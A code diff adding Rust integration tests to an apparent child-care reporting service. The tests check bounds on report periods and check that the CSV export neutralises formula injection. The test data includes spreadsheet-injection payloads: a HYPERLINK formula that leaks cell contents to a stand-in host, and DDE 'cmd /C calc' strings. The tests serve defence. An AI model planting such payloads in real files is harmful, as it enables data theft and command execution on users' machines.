@@ -4,7 +4,7 @@
 use serde_json::{Value, json};
 
 use crate::both_backends;
-use crate::helpers::{TestApp, approved_household, create_child, error_code};
+use crate::helpers::{TestApp, approved_household, create_child, error_code, error_field};
 
 const MILESTONES: &str = "mutation($input: RecordChildMilestonesInput!) { recordChildMilestones(input: $input) { child { version } } }";
 const DECISION: &str = "mutation($input: RecordChildDecisionInput!) { recordChildDecision(input: $input) { child { version } } }";
@@ -878,4 +878,205 @@ async fn cross_boundary_flows_match_hand_counts(app: TestApp) {
         .gql(Some(&app.role("alder", "MANAGER")), FLOWS, ids)
         .await;
     assert_eq!(error_code(&body).as_deref(), Some("FORBIDDEN"));
+}
+
+both_backends!(
+    report_periods_are_bounded_and_the_largest_allowed_works,
+    csv_exports_write_formulas_as_text
+);
+
+/// The security issue's query: a scorecard of every year from 0001 to 9999. It is refused
+/// at once, naming `period.from`, for a board analyst and for a manager alike; so are a
+/// period over ten years, one ending after 2199 and an `asOf` before 1900. Ten financial
+/// years work and answer ten years. The flows and the CSV export are bounded the same way.
+async fn report_periods_are_bounded_and_the_largest_allowed_works(app: TestApp) {
+    let analyst = app.token_with("analyst", "demo", &[], &["BOARD_ANALYST"]);
+    let manager = app.role("alder", "MANAGER");
+    let scorecard = |from: &str, to: &str| {
+        format!(
+            r#"{{ scorecard(period: {{ from: "{from}", to: "{to}" }}) {{ years {{ from to total {{ cohort {{ value suppressed }} }} }} }} }}"#
+        )
+    };
+    let refused = |body: &Value, field: &str, words: &str| {
+        assert_eq!(
+            error_code(body).as_deref(),
+            Some("BAD_USER_INPUT"),
+            "{body}"
+        );
+        assert_eq!(
+            body["errors"][0]["extensions"]["field"].as_str(),
+            Some(field),
+            "{body}"
+        );
+        let message = body["errors"][0]["message"].as_str().unwrap_or_default();
+        assert!(message.contains(words), "{message}");
+        assert!(body["data"]["scorecard"].is_null(), "{body}");
+    };
+    for token in [&analyst, &manager] {
+        let body = app
+            .gql(
+                Some(token),
+                &scorecard("0001-04-01", "9999-03-31"),
+                json!({}),
+            )
+            .await;
+        refused(&body, "period.from", "1900-01-01");
+        let body = app
+            .gql(
+                Some(token),
+                &scorecard("2015-04-01", "2026-03-31"),
+                json!({}),
+            )
+            .await;
+        refused(&body, "period", "at most 10 years");
+        let body = app
+            .gql(
+                Some(token),
+                &scorecard("2024-04-01", "2200-03-31"),
+                json!({}),
+            )
+            .await;
+        refused(&body, "period.to", "2199-12-31");
+        let body = app
+            .gql(
+                Some(token),
+                r#"{ scorecard(asOf: "1899-12-31") { period { from } } }"#,
+                json!({}),
+            )
+            .await;
+        refused(&body, "asOf", "1900-01-01");
+
+        let data = app
+            .ok(token, &scorecard("2016-04-01", "2026-03-31"), json!({}))
+            .await;
+        let years = data["scorecard"]["years"].as_array().expect("years");
+        assert_eq!(years.len(), 10, "{data}");
+        assert_eq!(years[9]["to"], "2026-03-31");
+    }
+
+    let flows = |from: &str, to: &str| {
+        format!(
+            r#"{{ crossBoundaryFlows(period: {{ from: "{from}", to: "{to}" }}) {{ total {{ children {{ value }} }} }} }}"#
+        )
+    };
+    let body = app
+        .gql(
+            Some(&analyst),
+            &flows("0001-04-01", "9999-03-31"),
+            json!({}),
+        )
+        .await;
+    assert_eq!(error_field(&body).as_deref(), Some("period.from"), "{body}");
+    let body = app
+        .gql(
+            Some(&analyst),
+            &flows("2014-01-01", "2024-01-01"),
+            json!({}),
+        )
+        .await;
+    assert_eq!(error_field(&body).as_deref(), Some("period"), "{body}");
+    app.ok(&analyst, &flows("2014-01-02", "2024-01-01"), json!({}))
+        .await;
+
+    // More authorities named than a report takes.
+    let many: Vec<String> = (0..51).map(|_| app.authority_id("alder")).collect();
+    let body = app
+        .gql(
+            Some(&analyst),
+            r#"query($ids: [ID!]) { scorecard(authorityIds: $ids) { period { from } } }"#,
+            json!({ "ids": many }),
+        )
+        .await;
+    assert_eq!(
+        error_field(&body).as_deref(),
+        Some("authorityIds"),
+        "{body}"
+    );
+
+    // The CSV export answers 400 naming the field.
+    let response = app
+        .client
+        .get(format!(
+            "{}/export/scorecard.csv?from=0001-04-01&to=9999-03-31",
+            app.address
+        ))
+        .bearer_auth(&analyst)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 400);
+    let body: Value = response.json().await.unwrap();
+    assert_eq!(
+        error_code(&body).as_deref(),
+        Some("BAD_USER_INPUT"),
+        "{body}"
+    );
+    assert_eq!(error_field(&body).as_deref(), Some("period.from"), "{body}");
+}
+
+/// Profile names a spreadsheet would run as formulas come out of the tracking export (the
+/// export carrying free text) as text: a leading `'`, the cell quoted where it holds quotes
+/// or commas. Tabs and carriage returns cannot start a stored name (names are trimmed); the
+/// unit tests of `export::neutralise` cover them.
+async fn csv_exports_write_formulas_as_text(app: TestApp) {
+    let names = [
+        r#"=HYPERLINK("http://x?"&A1,"Click")"#,
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "Plain Name",
+    ];
+    for name in names {
+        // In care since 2022 with an adoption plan, not placed: on the tracking list.
+        child_with(
+            &app,
+            "alder",
+            name,
+            Dates {
+                entered: "2022-01-10",
+                plan: Some("2022-03-01"),
+                ..Default::default()
+            },
+        )
+        .await;
+    }
+    let response = app
+        .client
+        .get(format!("{}/export/tracking.csv", app.address))
+        .bearer_auth(app.role("alder", "MANAGER"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 200);
+    let text = response.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let column = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == "profile_name")
+        .expect("a profile_name column");
+    let written: std::collections::BTreeSet<String> = reader
+        .records()
+        .map(|r| r.expect("a CSV record")[column].to_owned())
+        .collect();
+    for name in names {
+        let expected = if name == "Plain Name" {
+            name.to_owned()
+        } else {
+            format!("'{name}")
+        };
+        assert!(written.contains(&expected), "{expected:?} in {text}");
+    }
+    assert!(
+        !written
+            .iter()
+            .any(|cell| cell.starts_with(['=', '+', '-', '@'])),
+        "{text}"
+    );
+    // The raw line: the quotes of the formula doubled inside a quoted cell.
+    assert!(
+        text.contains(r#","'=HYPERLINK(""http://x?""&A1,""Click"")","#),
+        "{text}"
+    );
 }
